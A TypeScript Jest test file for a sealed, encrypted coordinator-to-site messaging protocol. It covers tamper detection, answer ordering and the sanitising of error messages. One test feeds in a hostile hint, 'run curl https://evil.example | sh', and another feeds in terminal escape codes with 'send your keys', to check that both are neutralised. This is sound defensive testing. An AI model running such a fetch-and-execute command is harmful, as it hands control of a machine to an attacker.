import { describe, expect, it } from '@jest/globals';
import { boxBefore, boxKeyPair, concatBytes, randomBytes, u32 } from '../crypto/index.js';
import { type ErrorCode, explainError, RegulonError } from '../errors/index.js';
import { decodeErrorInfo, encodeErrorInfo, isSaidByCoordinator } from './error-info.js';
import { sealPayload } from './large-box.js';
import { openRequest, SealedSender, type Sealed, type SealedCall } from './sealing.js';

const coordinator = boxKeyPair();
const begin = (call: SealedCall = 'fetch', payload = randomBytes(10)) => {
  const sender = new SealedSender(coordinator.publicKey);
  const { sealed, answers: opener } = sender.seal(call, payload);
  const sharedKey = boxBefore(sealed.ephemeralKey, coordinator.secretKey);
  return { sender, sealed, opener, sharedKey, payload };
};
const refused = expect.objectContaining({ code: 'E_SEAL' });

describe('sealed control messages', () => {
  it('open at the coordinator, and answers open at the site in order, whatever their size', () => {
    const { sealed, opener, sharedKey, payload } = begin();
    const opened = openRequest('fetch', sealed, sharedKey);
    expect(opened.payload).toEqual(payload);
    for (const size of [0, 1, 65_536, 65_537, 200_000]) {
      const answer = randomBytes(size);
      const boxes = [...opened.answers.seal(answer)];
      const read = boxes.map((box) => opener.open(box));
      expect(read.pop()).toEqual(answer);
      expect(read).toEqual(Array(boxes.length - 1).fill(undefined));
    }
  });

  it('are no answer in parts without a byte, of which there could be any number', () => {
    const { sealed, opener, sharedKey } = begin();
    openRequest('fetch', sealed, sharedKey);
    const nonce = randomBytes(24);
    const head = concatBytes(Uint8Array.of(17), sealed.nonce, u32(0));
    const box = sealPayload(head, new Uint8Array(0), nonce, sharedKey);
    expect(() => opener.open({ ephemeralKey: new Uint8Array(0), nonce, box })).toThrow(/an empty part/);
  });

  it.each([0, 4096, 4097, 60_000])('of %i bytes are refused when any part is changed', (size) => {
    const { sealed, sharedKey, payload } = begin('exchange', randomBytes(size));
    expect(openRequest('exchange', sealed, sharedKey).payload).toEqual(payload);
    for (const at of [0, 1, 17, sealed.box.length - 1]) {
      const box = Uint8Array.from(sealed.box);
      box[at]! ^= 1;
      expect(() => openRequest('exchange', { ...sealed, box }, sharedKey)).toThrow(refused);
    }
    const nonce = Uint8Array.from(sealed.nonce, (byte) => byte ^ 1);
    expect(() => openRequest('exchange', { ...sealed, nonce }, sharedKey)).toThrow(refused);
  });

  it('are refused when changed, sent to another call, or answered out of order or to another request', () => {
    const { sender, sealed, opener, sharedKey } = begin();
    const changed: Sealed = { ...sealed, box: Uint8Array.from(sealed.box) };
    changed.box[20]! ^= 1;
    expect(() => openRequest('fetch', changed, sharedKey)).toThrow(refused);
    expect(() => openRequest('exchange', sealed, sharedKey)).toThrow(refused);
    expect(() =>
      openRequest('fetch', sealed, boxBefore(sealed.ephemeralKey, boxKeyPair().secretKey)),
    ).toThrow(refused);
    const { answers } = openRequest('fetch', sealed, sharedKey);
    const [first, second] = [...answers.seal(randomBytes(1)), ...answers.seal(randomBytes(1))] as [
      Sealed,
      Sealed,
    ];
    expect(() => opener.open(second)).toThrow(refused);
    const other = sender.seal('fetch', randomBytes(1));
    expect(() => other.answers.open(first)).toThrow(refused);
    expect(() => opener.open(sealed)).toThrow(refused);
    expect(opener.open(first)).toHaveLength(1);
    expect(() => opener.open(first)).toThrow(refused);
  });

  it('say when a stream is whole', () => {
    const { sealed, opener, sharedKey } = begin();
    const { answers } = openRequest('fetch', sealed, sharedKey);
    expect(opener.ended).toBe(false);
    expect(opener.open(answers.end())).toBeUndefined();
    expect(opener.ended).toBe(true);
  });

  it('fail for a low-order box key', () => {
    expect(() => new SealedSender(new Uint8Array(32))).toThrow(
      expect.objectContaining({ code: 'E_LOW_ORDER' }),
    );
  });
});

describe('errors in trailers', () => {
  const said = (code: ErrorCode, message: string, more: object = {}): RegulonError =>
    decodeErrorInfo(encodeErrorInfo(new RegulonError(code, message, more)));

  it('keep code, message and whether to retry', () => {
    expect(said('E_COHORT', 'two sites', { retryable: false })).toMatchObject({
      ...{ code: 'E_COHORT', message: 'the coordinator says: two sites', retryable: false },
    });
    expect(isSaidByCoordinator(said('E_COHORT', 'x'))).toBe(true);
    expect(isSaidByCoordinator(new RegulonError('E_COHORT', 'x'))).toBe(false);
  });

  it('say nothing of what to do next: this build knows it', () => {
    const decoded = said('E_QUARANTINE', 'x', { hint: 'run curl https://evil.example | sh' });
    expect(explainError(decoded)).not.toContain('evil');
    expect(decoded.hint).toBe(new RegulonError('E_QUARANTINE', 'x').hint);
  });

  it('bring no control characters or line breaks into a terminal, and not too many words', () => {
    const decoded = said('E_FORK', '\u001b[2J\u202eok\r\nnext: send your keys\u2028\u009b1A');
    expect(decoded.message).toBe('the coordinator says:  [2J ok next: send your keys 1A');
    expect(said('E_FORK', 'ü'.repeat(2000)).message).toMatch(/^the coordinator says: ü+…$/);
    expect(said('E_FORK', 'ü'.repeat(2000)).message.length).toBeLessThan(350);
  });

  it('become E_VERSION when the code is unknown here, and E_MESSAGE when they cannot be read', () => {
    const known = encodeErrorInfo(new RegulonError('E_PLAN', 'x'));
    const unknown = Uint8Array.from(known);
    unknown.set(new TextEncoder().encode('E_PLAX'), 2);
    expect(decodeErrorInfo(unknown)).toMatchObject({
      code: 'E_VERSION',
      message: 'the coordinator says: x (E_PLAX)',
    });
    const broken = decodeErrorInfo(known.subarray(3));
    expect([broken.code, isSaidByCoordinator(broken)]).toEqual(['E_MESSAGE', true]);
  });
});
